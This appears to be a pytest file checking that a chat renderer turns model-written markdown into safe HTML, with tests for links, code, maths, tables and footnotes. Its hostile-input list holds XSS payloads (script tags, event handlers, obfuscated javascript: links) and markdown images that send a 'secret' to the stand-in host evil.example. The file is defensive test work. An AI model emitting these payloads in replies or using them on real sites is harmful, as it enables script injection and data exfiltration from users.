"""What a model writes becomes safe, complete HTML."""

import pytest

from chat.blocks import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil></iframe>",
    "<style>*{display:none}</style>",
    '<a hx-get="/admin/" data-hx-get="/admin/">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
    '```"><script>alert(1)</script>\ncode\n```',
    "$\\text{<script>alert(1)</script>}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "[^<script>]: x",
    "| <b onclick=x>a</b> |\n|---|\n| <script> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_never_becomes_markup(text):
    html = render(text).lower()
    for forbidden in ("<script", "<img", "<svg", "<iframe", "<style", "<a hx", "<b "):
        assert forbidden not in html
    for scheme in ('href="javascript', 'href="data', 'href="vbscript'):
        assert scheme not in html


def test_a_picture_in_a_reply_is_a_link_that_loads_nothing():
    html = render("![a map](https://example.org/map.png)")
    assert "<img" not in html
    assert 'href="https://example.org/map.png"' in html
    assert ">a map</a>" in html


def test_links_open_elsewhere_and_say_nothing_of_us():
    html = render("[x](https://example.org) https://example.com")
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert html.count('target="_blank"') == 2


def test_code_is_coloured_and_named():
    html = render("```python\ndef f(): pass\n```")
    assert "<span>python</span>" in html
    assert '<span class="k">def</span>' in html


def test_code_in_an_unknown_language_is_shown_as_it_is():
    assert "a &lt; b" in render("```klingon\na < b\n```")


@pytest.mark.parametrize("text", ["$x^2$", r"\(x^2\)", "$$\nx^2\n$$", "\\[\nx^2\n\\]"])
def test_maths_becomes_mathml(text):
    assert "<math" in render(text)
    assert "<msup>" in render(text)


@pytest.mark.parametrize("text", ["It costs $5 and $6.", "a $ b $ c", r"\$x$ y"])
def test_dollars_are_not_maths(text):
    assert "<math" not in render(text)


@pytest.mark.parametrize("formula", [r"\left( a", r"\text", r"\begin{aligned}\text"])
def test_a_formula_that_cannot_be_read_is_shown_as_code(formula):
    assert f"<code>{formula}</code>" in render(f"so ${formula}$ is")


def test_a_table_scrolls_in_itself_and_keeps_its_alignment():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<div class="table" tabindex="0">' in html
    assert '<td data-align="right">2</td>' in html
    assert "style=" not in html


def test_tasks_have_boxes_with_labels():
    html = render("- [x] done\n- [ ] not yet")
    assert html.count("<label>") == 2
    assert html.count('disabled="disabled"') == 2


def test_footnotes_are_marks_where_they_stand():
    html = render("Claim[^1].\n\n[^1]: Source.")
    assert "Claim<sup>1</sup>." in html
    assert '<p class="footnote"><sup>1</sup> Source.</p>' in html
